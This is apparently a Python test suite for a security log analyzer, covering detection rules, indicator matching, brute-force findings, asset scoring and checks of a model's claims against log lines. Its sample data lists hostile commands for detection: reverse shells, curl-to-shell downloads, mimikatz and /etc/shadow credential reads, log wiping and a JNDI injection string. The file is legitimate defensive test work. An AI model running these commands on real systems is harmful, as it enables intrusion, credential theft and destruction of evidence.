"""What a log says beside what is known; the hits beside those of a second search that shares no code with the first."""

from __future__ import annotations

import ipaddress
import json
import os
import random
import re
import subprocess
import sys
import unittest
from typing import Any, Dict, List, Set

from enriched.known import Asset, Indicator, Known, type_of
from enriched.rules import RULES, Rules
from framework.plugins.protocol import ArtifactRef, LLMResponse, ToolResult

import logs
from support import HERE, ToolCase
from tool import ContextEnrichedAnalyzer

# For each rule lines that show it, as the systems write them, and lines that only look so.
SIGNS: Dict[str, List[str]] = {
    "login_failed": [
        "sshd[1]: Failed password for root from 192.0.2.1 port 4 ssh2", "sshd[1]: Failed password for invalid user a from 2001:db8::1 port 4 ssh2",
        "sshd[9]: Invalid user test from 192.0.2.1 port 99", "sshd(pam_unix)[1]: authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=192.0.2.1",
        '{"EventID":4625,"TargetUserName":"bob","IpAddress":"192.0.2.1"}', '{"eventName":"ConsoleLogin","sourceIPAddress":"192.0.2.1","responseElements":{"ConsoleLogin":"Failure"}}',
    ],
    "login_accepted": ["sshd[1]: Accepted publickey for bob from 192.0.2.1 port 4 ssh2", "<EventID>4624</EventID><Data Name='TargetUserName'>bob</Data>"],
    "account_created": ["useradd[9]: new user: name=eve, UID=1", "EventID=4720 A user account was created", '{"eventName": "CreateUser"}'],
    "privileges_granted": ["EventCode=4732 A member was added", "usermod -aG sudo eve", '{"eventName":"CreateAccessKey"}'],
    "sudo_refused": ["sudo: eve : user NOT in sudoers ; TTY=pts/0", "sudo: eve : 3 incorrect password attempts ; TTY=pts/0"],
    "service_installed": ['"event_id": 7045, "service": "x"'],
    "task_scheduled": ["schtasks.exe /create /tn x", "crontab[12]: (eve) REPLACE (eve)"],
    "log_cleared": ["EventID: 1102", "rm -rf /var/log/auth.log", "history -c", "wevtutil cl Security", '{"eventName":"StopLogging"}', "cat /dev/null > /var/log/wtmp"],
    "encoded_command": ["powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A", "echo aGk= | base64 -d | bash"],
    "download_run": ["curl -s http://x.example/a.sh | sh", "wget -qO- http://x.example/a | sudo bash", "certutil.exe -urlcache -f http://x.example/a a.exe"],
    "reverse_shell": ["bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "nc -e /bin/sh 192.0.2.1 4444"],
    "credentials_read": ["mimikatz.exe sekurlsa::logonpasswords", "cat /etc/shadow", "procdump -ma lsass.exe"],
    "web_exploit": ["GET /a?id=1+UNION+SELECT+1,2 HTTP/1.1", "User-Agent: ${jndi:ldap://x.example/a}", "GET /../../etc/passwd HTTP/1.1"],
    "remote_run": ["PSEXESVC.exe started", "wmic.exe /node:10.0.0.1 process call create"],
    "recovery_removed": ["vssadmin.exe delete shadows /all /quiet", "bcdedit /set {default} recoveryenabled No"],
    "protection_stopped": ["setenforce 0", "systemctl stop auditd", "Set-MpPreference -DisableRealtimeMonitoring $true"],
}  # fmt: skip
INNOCENT = [
    "sshd[1]: Connection closed by 192.0.2.1 port 4", "GET /union-station/select HTTP/1.1", "request 1102 took 4625 ms", "order 4720 shipped to 7045", "curl http://x.example/ -o page.html",
    "rotating /var/log/auth.log", "powershell.exe -File backup.ps1", "opened /etc/shadow-theme.css", "base64 -d < in > out", "user history -count 3", "systemctl stop nginx", "wget http://x.example/a.tar.gz",
]  # fmt: skip


class Model:
    """A model that gives one answer."""

    def __init__(self, text: str, ok: bool = True) -> None:
        self.text, self.ok = text, ok
        self.asked: List[Dict[str, Any]] = []

    def query_text(self, **asked: Any) -> LLMResponse:
        self.asked.append(asked)
        return LLMResponse(ok=self.ok, text=self.text, error=None if self.ok else "no quota", model_used="m-1")


class Analyzer(ToolCase):
    tool = ContextEnrichedAnalyzer()

    def test_the_rules(self) -> None:
        rules = Rules()
        self.assertEqual(set(SIGNS), {rule.id for rule in RULES})
        for id, shown in SIGNS.items():
            for line in shown:
                self.assertIn(id, {match.rule.id for match in rules.found(line.lower())}, line)
        for line in INNOCENT:
            self.assertEqual([match.rule.id for match in rules.found(line.lower())], [], line)
        (match,) = rules.found(SIGNS["login_failed"][1].lower())
        self.assertEqual((match.source, match.user), ("2001:db8::1", "a"))
        (match,) = rules.found(SIGNS["login_failed"][4].lower())
        self.assertEqual((match.source, match.user), ("192.0.2.1", "bob"))

    def test_rules_are_quick_on_hostile_lines(self) -> None:
        import time

        rules = Rules()
        for line in ("failed password for " * 12000, "union/**/" * 25000, "a" * 200000 + " event id 4625 " + "b" * 50000, "consolelogin" * 20000, "get " + "../" * 60000, "powershell -" * 20000,
                     "authentication failure;" * 10000, "event id 4624 account name " * 9000):  # fmt: skip
            begin = time.monotonic()
            rules.found(line[: 1 << 18])
            self.assertLess(time.monotonic() - begin, 5, line[:30])

    def test_who_brute_forced_ssh_and_got_in(self) -> None:
        with open(os.path.join(HERE, "examples", "sample.log"), encoding="utf-8") as file:
            result = self.run_on(file.read(), assets=os.path.join(HERE, "examples", "assets.csv"))
        first = {one["kind"]: one for one in result["findings"]}
        got_in = first["brute_force_succeeded"]
        self.assertEqual((got_in["subject"], got_in["first_line"], got_in["assets"]), ("203.0.113.77", 7, [{"name": "gw1", "criticality": "medium"}]))
        self.assertIn("lines 2 to 6", got_in["why"])
        self.assertEqual((first["brute_force"]["count"], [line["line"] for line in first["brute_force"]["lines"]]), (5, [2, 3, 4, 5, 6]))
        self.assertEqual(result["findings"][0]["assets"], [{"name": "db7", "criticality": "critical"}])  # what touches it comes first
        self.assertEqual(result["findings"][0]["score"], 96)
        self.assertEqual(result["assets"][0]["name"], "gw1")
        self.assertEqual([t["id"] for t in result["techniques"]][:2], ["T1110.001", "T1110"])

    def test_few_failures_are_no_brute_force(self) -> None:
        line = "2026-03-05T09:14:%02dZ gw sshd[8]: Failed password for root from 203.0.113.7 port 40122 ssh2"
        accepted = "2026-03-05T09:15:00Z gw sshd[8]: Accepted password for root from 203.0.113.7 port 4 ssh2"
        for failed, kinds in ((4, []), (5, ["brute_force_succeeded", "brute_force"])):
            result = self.run_on("\n".join([line % i for i in range(failed)] + [accepted]))
            self.assertEqual(([f["kind"] for f in result["findings"]], result["counts"]["failed_logins"]), (kinds, failed))
        before = self.run_on("\n".join([accepted] + [line % i for i in range(9)]))
        self.assertEqual([f["kind"] for f in before["findings"]], ["brute_force"])

    def test_indicators_in_all_their_forms(self) -> None:
        for ioc, there, absent in (
            ("198.51.100.7", ["src=198.51.100.7:443", "(198.51.100.7)", "from 198.51.100.7."], ["198.51.100.70", "1198.51.100.7", "198.51.100.7.5"]),
            ("10.9.0.0/16", ["10.9.255.1"], ["10.10.0.1"]),
            ("2001:db8::1", ["[2001:DB8:0:0:0:0:0:1]:443", "2001:db8::1"], ["2001:db8::11"]),
            ("bad.example", ["x.bad.example", "BAD.example.", "https://u:p@a.bad.example:8443/x", "mail eve@bad.example"], ["notbad.example", "bad.example.org", "bad-example"]),
            ("http://a.example/x", ["GET 'http://a.example/x'", "HTTP://A.example/x/"], ["http://a.example/xy"]),
            ("d41d8cd98f00b204e9800998ecf8427e", ["md5=D41D8CD98F00B204E9800998ECF8427E"], ["d41d8cd98f00b204e9800998ecf8427e0"]),
            ("eve@mail.example", ["from=<eve@mail.example>"], ["steve@mail.example"]),
            ("C:\\Windows\\Temp\\a b.exe", ['image="c:\\windows\\temp\\a b.exe"'], ["c:\\windows\\temp\\ab.exe"]),
        ):
            for text in there + absent:
                result = self.run_on("line one\n%s\n" % text, iocs=[ioc], rules=False)
                self.assertEqual([(f["subject"], f["first_line"]) for f in result["findings"]], [(ioc, 2)] if text in there else [], text)

    def test_kinds_of_indicators(self) -> None:
        for value, kind in (("1.2.3.4", "ipv4"), ("10.0.0.0/8", "network"), ("::1", "ipv6"), ("a.example", "domain"), ("https://a/", "url"), ("a@b.example", "email"), ("f" * 40, "sha1"), ("/tmp/x", "phrase")):
            self.assertEqual(type_of(value), kind)

    def test_what_the_session_has_is_used(self) -> None:
        log = self.artifact("a line\nquery bad.example\nfrom 192.0.2.9\n", "log_stream", "one.log")
        lines = '{"kind":"indicator","type":"domain","value":"bad.example"}\n{"kind":"filtered","type":"ipv4","value":"192.0.2.9"}\n{"kind":"technique","id":"T1059"}\n'
        path = self.file(lines, "iocs.jsonl")
        self.artifacts.append(ArtifactRef("art_000000aa", "json_events", path, None, "threat_intel_ingester", {}))
        for payload in ({}, {"indicators": "art_000000aa"}, {"indicators": path}):
            result = self.tool.execute(dict(payload, artifact_id=log.artifact_id), self.context())
            assert result.result is not None
            self.assertEqual([(f["subject"], f["sources"]) for f in result.result["findings"]], [("bad.example", ["iocs.jsonl"])])
        whole = self.file(json.dumps({"ok": True, "result": {"indicators": [{"type": "ipv4", "value": "192.0.2.9"}]}}), "result.json")
        result = self.tool.execute({"artifact_id": log.artifact_id, "indicators": whole}, self.context())
        assert result.result is not None
        self.assertEqual([f["subject"] for f in result.result["findings"]], ["192.0.2.9"])

    def test_assets_in_all_their_forms(self) -> None:
        text = "deny 10.2.0.9 to bad.example\nweb1 started\n"
        for content in ("Name,IP,Criticality\nweb1,10.2.0.0/16,CRITICAL\n", '{"name":"web1","ip":["10.2.0.9"],"criticality":"critical"}\n', '{"assets":[{"hostname":"web1","network":"10.2.0.0/24","tier":"critical"}]}'):
            result = self.run_on(text, iocs=["bad.example"], assets=self.file(content, "assets"))
            self.assertEqual(([(a["name"], a["criticality"], a["lines"], a["matched_lines"]) for a in result["assets"]], result["findings"][0]["score"]), ([("web1", "critical", 2, 1)], 120))
        self.refused("ARTIFACT_UNREADABLE", {"file_path": self.file(text), "assets": self.file("a,b\n1,2\n", "none.csv")})

    def test_names_of_techniques_come_from_reference_data(self) -> None:
        context = self.context(reference={"mitre_techniques": {"T1003": {"name": "OS Credential Dumping", "tactics": ["Credential Access"], "url": "u", "matrix": "enterprise"}}})
        result = self.tool.execute({"file_path": self.file("cat /etc/shadow\n")}, context)
        assert result.result is not None
        self.assertEqual(result.result["techniques"], [{"id": "T1003", "name": "OS Credential Dumping", "tactics": ["Credential Access"], "count": 1, "first_line": 1}])

    def test_times_as_logs_write_them(self) -> None:
        for start, want in (
            ("2026-03-05T09:00:00Z", "2026-03-05T09:00:00Z"), ("Mar  5 09:00:00", "03-05T09:00:00"), ("<34>Mar  5 09:00:00", "03-05T09:00:00"), ('{"a":1,"t":"2026-03-05 09:00:00"}', "2026-03-05T09:00:00"),
            ('192.0.2.1 - - [05/Mar/2026:09:00:00 +0100]', "2026-03-05T08:00:00Z"),
        ):  # fmt: skip
            result = self.run_on(start + " bad.example\n", iocs=["bad.example"])
            self.assertEqual(result["timeline"][0]["time"], want, start)

    def test_a_models_claims_are_held_against_the_lines(self) -> None:
        text = "\n".join(["nothing", "sshd: cat /etc/shadow", "nothing", "setenforce 0"])
        answer = {"claims": [{"text": "Passwords were read.", "lines": [2]}, {"text": "Invented.", "lines": [3]}, {"text": "No lines."}, {"text": "Both.", "lines": [2, 4]}], "next_steps": ["Look at host."]}
        model = Model("Here: " + json.dumps(answer))
        result = self.tool.execute({"file_path": self.file(text), "use_llm": True, "question": "What happened?"}, self.context(llm=model))
        assert result.result is not None
        self.assertEqual([c["text"] for c in result.result["model"]["claims"]], ["Passwords were read.", "Both."])
        self.assertEqual((result.result["model"]["dropped"], result.result["model"]["model_used"]), (2, "m-1"))
        self.assertIn("What happened?", model.asked[0]["prompt"])
        self.assertIn("/etc/shadow", model.asked[0]["grounding_data"][0])
        self.assertNotIn("/etc/shadow", model.asked[0]["prompt"])
        for bad in (Model("no"), Model('{"claims": 3}'), Model("", ok=False)):
            result = self.tool.execute({"file_path": self.file(text), "use_llm": True}, self.context(llm=bad))
            assert result.result is not None
            self.assertIsNone(result.result["model"])
            self.assertTrue(any("model" in note for note in result.result["notes"]))
        quiet = Model("no")
        self.tool.execute({"file_path": self.file(text)}, self.context(llm=quiet))
        self.assertEqual(quiet.asked, [])

    def test_what_cannot_be_read(self) -> None:
        self.refused("ARTIFACT_UNREADABLE", {"file_path": self.file(b"\x7fELF" + bytes(100))})
        self.refused("ARTIFACT_NOT_FOUND", {"file_path": "/no/such.log"})
        self.refused("ARTIFACT_NOT_FOUND", {"file_path": self.file("x"), "indicators": "/no/such.txt"})
        self.assertIn("no findings", self.tool.summarize_for_llm(ToolResult(ok=True, result=self.run_on("nothing\n"))))
        self.assertEqual(self.run_on("")["counts"]["lines"], 0)

    def test_all_lines_become_an_artifact(self) -> None:
        self.artifact("\n".join("query x%d.bad.example" % i for i in range(50)), "log_stream", "many.log")
        result = self.tool.execute({"iocs": ["bad.example"], "limit": "5"}, self.context())
        assert result.result is not None
        self.assertEqual((len(result.result["timeline"]), result.result["table_rows"], [row["line"] for row in self.registered[0]["lines"]]), (5, 50, list(range(1, 51))))

    def test_beside_a_second_search(self) -> None:
        for seed in range(3):
            lines = logs.lines(seed, 6000)
            path = self.file("\n".join(lines))
            result = self.tool.execute({"file_path": path, "iocs": logs.IOCS, "limit": 1, "login_threshold": 2, "rules": True}, self.context())
            assert result.ok and result.result is not None
            got: Dict[str, Set[int]] = {ioc: set() for ioc in logs.IOCS}
            for row in self.registered[-1]["lines"]:
                for ioc in row["indicators"]:
                    got[ioc].add(row["line"])
            self.assertEqual(got, {ioc: second(lines, ioc) for ioc in logs.IOCS})
            self.assertTrue(all(got.values()))
            self.assertEqual(result.result["counts"]["failed_logins"], sum("Failed password" in line for line in lines))

    def test_many_lines_at_once_are_what_each_says_alone(self) -> None:
        odd = ["", "\u00c9 \u0130 \u03a3", "2026-03-05T08:00:00.123Z a", "10.5.z [::1]:22 host.", "a@evil.example b@x.evil.example,", "http://[2001:db8::bad]:80/x", "x" * 200,
               "WEB7 sub.evil.example.:53", "0123456789ABCDEF0123456789abcdef!", "under\u2028line evil.example\x0b198.51.100.77", "12.5z 2026-03-05T08:00:12.5Z"]  # fmt: skip
        values = [*logs.IOCS, "::1", "12.5z", "run evil", "2001:db8::/32"]
        rng = random.Random(7)
        rules = Rules()
        for seed in range(40):
            lines = logs.lines(seed, 150) + odd + [line.replace(" ", rng.choice(" \t=,")) for line in odd]
            rng.shuffle(lines)
            lows = [line.lower() for line in lines]
            some = [Indicator(type_of(value), value, "a test") for value in rng.sample(values, rng.randrange(len(values) + 1))]
            assets = [Asset("web7", ("web7",), "high", "", "")] * rng.randrange(2) + [Asset("net", ("10.0.0.0/8",), "low", "", "")] * rng.randrange(2)
            known = Known(some, assets)
            alone = {i for i, low in enumerate(lows) if known.found(low)}
            for size in (1, 7, len(lows)):
                at_once = {at + i for at in range(0, len(lows), size) for i in known.candidates(lows[at : at + size])}
                self.assertLessEqual(alone, at_once)
            self.assertLessEqual({i for i, low in enumerate(lows) if rules.found(low)}, rules.candidates(lows))

    def test_a_large_log_in_little_memory_with_progress(self) -> None:
        path = os.path.join(self.dir, "large.log")
        with open(path, "wb") as file:
            count = logs.write(file, int(os.environ.get("MORTISE_TOOL_MB", "24")))
        script = (
            "import json, resource, sys, tool\n"
            "class Context: artifacts = []; session_id = ''; limits = {}; told = 0; register_artifact = None; reference_data = {}\n"
            "def progress(message, done, total, unit): Context.told += 1; Context.last = (done, total)\n"
            "context = Context(); context.progress = progress\n"
            "r = tool.ContextEnrichedAnalyzer().execute({'file_path': sys.argv[1], 'iocs': json.loads(sys.argv[2])}, context)\n"
            "print(json.dumps([r.result['counts'], context.told, context.last, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss]))"
        )
        env = dict(os.environ, PYTHONPATH=os.pathsep.join([HERE, *sys.path]))
        run = subprocess.run([sys.executable, "-B", "-c", script, path, json.dumps(logs.IOCS)], capture_output=True, text=True, env=env)
        self.assertEqual(run.returncode, 0, run.stderr)
        counts, told, last, kilobytes = json.loads(run.stdout)
        self.assertEqual(counts["lines"], count)
        self.assertGreater(told, count // 30000)
        self.assertEqual(last[0], last[1])
        self.assertLess(kilobytes, 256 << 10)
        print("\n%d MB, %d lines, %d matched: %d MB of memory" % (os.path.getsize(path) >> 20, count, counts["matched"], kilobytes >> 10), file=sys.stderr)


def second(lines: List[str], ioc: str) -> Set[int]:
    """Line numbers of an indicator, found the plain way: each line is cut at what no indicator has, and each part tried."""
    out = set()
    kind = type_of(ioc)
    for number, line in enumerate(lines, 1):
        parts = [part.strip(".,:;[]\"'()") for part in re.split(r"[\s=\"<>()]+", line.lower())]
        for part in parts:
            if kind in ("ipv4", "network", "ipv6"):
                for text in (part, part.split("=")[-1]):
                    try:
                        if ipaddress.ip_address(text) in ipaddress.ip_network(ioc):
                            out.add(number)
                    except ValueError:
                        pass
            elif kind == "domain" and (part == ioc or part.endswith("." + ioc)):
                out.add(number)
            elif kind == "phrase" and ioc in part or part == ioc:
                out.add(number)
    return out


if __name__ == "__main__":
    unittest.main()
